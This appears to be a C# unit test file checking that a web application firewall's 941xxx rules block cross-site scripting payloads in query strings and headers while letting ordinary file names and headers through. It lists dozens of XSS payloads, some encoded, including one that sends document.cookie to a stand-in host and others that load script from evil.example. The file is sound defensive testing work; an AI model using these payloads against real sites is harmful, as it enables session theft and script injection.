using static HeadyClouds.UnitTests.Waf.WafTest;

namespace HeadyClouds.UnitTests.Waf;

/// <summary>941xxx: cross-site scripting in query arguments (names and values) and inspected headers.</summary>
public sealed class XssRuleTests
{
    // Decoded payloads; the helper encodes them as a client would.
    [Theory]
    [InlineData("<script>alert(1)</script>", 941110)]
    [InlineData("\"><script>alert(document.cookie)</script>", 941110)]
    [InlineData("<ScRiPt >alert(1)</sCrIpT>", 941110)]
    [InlineData("<scr<script>ipt>alert(1)</script>", 941110)]
    [InlineData("</script><script src=//evil.example/x.js>", 941110)]
    [InlineData("<img src=x onerror=alert(1)>", 941120)]
    [InlineData("<img src=x onerror=alert(1)>", 941160)]
    [InlineData("<svg/onload=alert(1)>", 941120)]
    [InlineData("<svg/onload=alert(1)>", 941160)]
    [InlineData("\" onmouseover=\"alert(1)", 941120)]
    [InlineData("' autofocus onfocus='alert(1)", 941120)]
    [InlineData("<body onload=alert(1)>", 941120)]
    [InlineData("<details open ontoggle=alert(1)>", 941120)]
    [InlineData("<div onpointerenter = alert(1)>", 941120)]
    [InlineData("<x onclick=alert(1)>click", 941120)]
    [InlineData("<img/src/onerror=alert(1)>", 941120)]
    [InlineData("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", 941120)]
    [InlineData("<body/onpageshow=alert(1)>", 941120)]
    [InlineData("<iframe src=//evil.example>", 941160)]
    [InlineData("<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>", 941110)]
    [InlineData("<style>@import 'https://evil.example/x.css'</style>", 941160)]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>", 941170)]
    [InlineData("<a href=\"jav&#x09;ascript:alert(1)\">x</a>", 941170)]
    [InlineData("<<SCRIPT>alert(\"XSS\");//<</SCRIPT>", 941110)]
    [InlineData("<IFRAME SRC=\"javascript:alert(1)\">", 941160)]
    [InlineData("<object data=evil.swf>", 941160)]
    [InlineData("<embed src=evil.swf>", 941160)]
    [InlineData("<math><mtext><table><mglyph><style><img src=x>", 941160)]
    [InlineData("<meta http-equiv=refresh content=0;url=//evil.example>", 941160)]
    [InlineData("javascript:alert(1)", 941170)]
    [InlineData("JaVaScRiPt:alert(1)", 941170)]
    [InlineData("java\tscript:alert(1)", 941170)]
    [InlineData("java\nscript:alert(1)", 941170)]
    [InlineData("javascript://%0aalert(1)", 941170)]
    [InlineData("javascript:document.location='//evil.example'", 941170)]
    [InlineData("javascript:alert`1`", 941170)]
    [InlineData("&#106;avascript:alert(1)", 941170)]
    [InlineData("&#x6A;&#x61;vascript:alert(1)", 941170)]
    [InlineData("vbscript:msgbox(1)", 941170)]
    [InlineData("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", 941170)]
    [InlineData("data:image/svg+xml,<svg onload=alert(1)>", 941170)]
    public void QueryValueAttackIsBlocked(string payload, int ruleId) => AssertBlockedBy(Evaluate(NameArgument(payload)), ruleId);

    // Encodings and obfuscations written raw.
    [Theory]
    [InlineData("q=%3Cscript%3Ealert(1)%3C/script%3E", 941110)]
    [InlineData("q=%253Cscript%253Ealert(1)", 941110)]
    [InlineData("q=%25253Cscript%25253E", 941110)]
    [InlineData("q=%u003cscript%u003e", 941110)]
    [InlineData("q=%EF%BC%9Cscript%EF%BC%9E", 941110)]
    [InlineData("q=%3Cscript%00%3E", 941110)]
    [InlineData("%3Cscript%3E=1", 941110)]
    [InlineData("q=%3Csvg%0conload%3Dalert(1)%3E", 941120)]
    [InlineData("q=jav%09ascript:alert(1)", 941170)]
    public void EncodedQueryAttackIsBlocked(string rawQuery, int ruleId) => AssertBlockedBy(Evaluate(RawQuery(rawQuery)), ruleId);

    [Theory]
    [InlineData("User-Agent", "<script>alert(1)</script>", 941110)]
    [InlineData("Referer", "https://evil.example/<script>alert(1)</script>", 941110)]
    [InlineData("Referer", "https://evil.example/?q=%3Csvg%2Fonload%3Dalert(1)%3E", 941120)]
    [InlineData("Cookie", "theme=<svg onload=alert(1)>", 941120)]
    [InlineData("Cookie", "session=abc; theme=%3Ciframe%20src%3D%2F%2Fevil%3E", 941160)]
    [InlineData("X-Forwarded-Host", "javascript:alert(1)", 941170)]
    [InlineData("Baggage", "user=<script>alert(1)</script>", 941110)]
    public void HeaderAttackIsBlocked(string header, string value, int ruleId) => AssertBlockedBy(Evaluate(WithHeader(header, value)), ruleId);

    // 941180 is tuned to WARNING: a DOM keyword alone is scored, not blocked; with a vector it blocks.
    [Theory]
    [InlineData("document.cookie")]
    [InlineData("x.innerHTML")]
    [InlineData("String.fromCharCode(88,83,83)")]
    [InlineData("eval (draft).docx")]
    public void DomKeywordAloneIsScoredButNotBlocked(string value) => AssertScoredNotBlocked(Evaluate(NameArgument(value)), 941180);

    [Fact]
    public void DomKeywordWithAVectorIsBlocked() =>
        AssertBlockedBy(Evaluate(NameArgument("<img src=x onerror=fetch('//evil/'+document.cookie)>")), 941180);

    [Theory]
    [InlineData("script notes.md")]
    [InlineData("Scripts/deploy script v2.ps1")]
    [InlineData("JavaScript: The Good Parts (2008).pdf")]
    [InlineData("javascript notes.txt")]
    [InlineData("Tom & Jerry <3.txt")]
    [InlineData("<draft> notes.txt")]
    [InlineData("a < b > c.txt")]
    [InlineData("x<y and y>z.md")]
    [InlineData("onboarding=v2.txt")]
    [InlineData("one=1.txt")]
    [InlineData("notes on error=handling.md")]
    [InlineData("Conference-Online=yes.txt")]
    [InlineData("button styles.css")]
    [InlineData("data: Q3 report.xlsx")]
    [InlineData("Image & Video.txt")]
    [InlineData("a&amp;b.txt")]
    [InlineData("Fish &chips.txt")]
    [InlineData("Ünïcödé 日本語 ファイル.txt")]
    [InlineData("emoji 🎉📁.png")]
    public void LegitimateFileNamesPass(string fileName) => AssertClean(Evaluate(NameArgument(fileName)));

    [Theory]
    [InlineData("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1")]
    [InlineData("Referer", "https://app.headyclouds.example/workspaces/0193f5b6?view=list&sort=name")]
    [InlineData("Cookie", "session=CfDJ8Nq1x-_abc%2Bdef%3D; theme=dark; lang=en-GB")]
    [InlineData("X-Requested-With", "XMLHttpRequest")]
    public void LegitimateHeadersPass(string header, string value) => AssertClean(Evaluate(WithHeader(header, value)));
}
